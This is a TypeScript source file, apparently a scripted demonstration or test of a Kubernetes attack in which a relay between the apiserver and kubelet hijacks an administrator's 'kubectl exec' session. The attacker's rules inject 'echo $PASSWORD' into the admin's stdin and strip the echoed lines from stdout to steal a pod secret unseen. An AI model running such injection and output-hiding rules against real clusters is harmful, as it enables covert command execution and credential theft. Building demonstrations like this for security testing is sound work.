import { playOf } from './play';
import { runPodWithPassword } from './pod-with-password';
import { relayToKubelet } from './relay-to-kubelet';

export const hijackedShell = playOf({
  steps: [
    'admin: kubectl run db --env=PASSWORD=…',
    'attacker: midplane attack --path exec --technique relay --rule \'inject: {stream: stdin, text: "echo $PASSWORD\\n"}\' …',
    'admin: kubectl exec -it db -- sh, and types hostname, exit',
    'attacker: typed echo $PASSWORD',
  ],
  async play(stage) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const attack = await relayToKubelet(stage, cluster, [
      { kind: 'inject', stream: 'stdin', text: 'echo $PASSWORD\n', when: { kind: 'open' } },
      { kind: 'replace', stream: 'stdout', match: '/echo \\$PASSWORD\\r\\n.*\\r\\n.*[$#] /', with: '' },
    ]);
    await stage.did(
      'attacker',
      'midplane attack --path exec --technique relay --rule \'inject: {stream: stdin, text: "echo $PASSWORD\\n"}\' …',
      'is at the node’s address, as far as the apiserver knows',
    );
    const stdin = Buffer.from('hostname\nexit\n');
    const command = ['sh'];
    const exec = await cluster.admin.exec({
      namespace: 'default',
      pod: 'db',
      command,
      stdin,
      tty: true,
      signal,
    });
    const typed = 'kubectl exec -it db -- sh, and types hostname, exit';
    const screen = exec.stdout.toString('utf8').trim().replaceAll(/\r?\n/g, ' | ');
    if (!exec.ok) return stage.refused('admin', typed, exec.words);
    if (screen.includes(password)) throw new Error(`the screen shows what the attacker asked: ${screen}`);
    await stage.did('admin', typed, screen);
    const answer = attack.loot.down().toString('utf8');
    if (!answer.includes(password)) throw new Error('the session did not come through the attacker');
    await stage.gained(
      'attacker',
      'typed echo $PASSWORD',
      password,
      'a command in an administrator’s shell, and its answer',
    );
  },
});
